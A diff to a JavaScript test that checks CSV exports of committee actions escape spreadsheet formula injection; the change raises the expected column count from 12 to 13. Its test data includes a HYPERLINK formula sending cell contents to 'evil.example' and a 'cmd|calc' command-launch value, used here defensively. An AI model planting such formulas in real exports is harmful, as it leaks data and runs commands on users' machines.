@@ -43,7 +43,7 @@ describe('actions exports with hostile or non-ASCII text', () => {
     addManualEntry(store.db, { committeeId, kind: 'action', what: '-2+3', owner: '\tcmd|calc', due: '2025-03-01' });
     for (const csv of [actionsCsv(entries()), exportText(await exportActions(store.db, { format: 'csv' }, TODAY))]) {
       const rows = parseCsv(csv);
-      expect(rows.every((r) => r.length === 12)).toBe(true);
+      expect(rows.every((r) => r.length === 13)).toBe(true);
       // No cell a spreadsheet would read as a formula: each such cell starts with an apostrophe.
       for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
       expect(rows.flat()).toEqual(expect.arrayContaining(['\'=HYPERLINK("https://evil.example/?d="&A1,"Click")', "'@SUM(1+1)", "'-2+3", "'\tcmd|calc"]));
